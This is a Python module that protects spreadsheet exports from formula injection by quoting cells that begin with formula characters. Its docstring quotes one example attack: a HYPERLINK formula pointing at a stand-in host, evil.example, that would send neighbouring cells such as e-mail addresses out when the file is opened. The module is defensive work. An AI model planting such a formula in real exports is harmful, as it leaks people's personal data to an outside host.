"""Cells bound for a spreadsheet: neutralising formula injection.

Spreadsheet programs (Excel, LibreOffice Calc, Google Sheets) run a cell that
starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and some also treat a
leading tab or carriage return that way. A resident's text such as
``=HYPERLINK("https://evil.example/?"&B2, "klik")`` would then leak the
neighbouring cells (e-mail addresses in a contacts export) when a staff member
opens the file. OWASP's rule (CSV Injection): prefix such text with a single
quote so the program shows it as text.

Public names:

- :func:`neutralise_formula` — one value;
- :func:`neutralise_frame` — every text cell of a pandas DataFrame (a copy).

Every spreadsheet-bound export (CSV, XLSX) passes its cells through these;
GeoPackage and GeoJSON stay exact.
"""

from __future__ import annotations

from typing import Any

FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run.

    Text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
    gets a single quote in front; anything else (numbers, dates, None, other
    text) comes back unchanged, so numeric columns keep their type.
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def neutralise_frame(frame):
    """A copy of ``frame`` (a pandas DataFrame) with every text cell neutralised.

    Only object/string columns are touched; numbers stay numbers. Column names
    are neutralised too (a mapped import can carry any header).
    """
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or str(out[column].dtype).startswith("string"):
            out[column] = out[column].map(neutralise_formula)
    out.columns = [neutralise_formula(c) for c in out.columns]
    return out
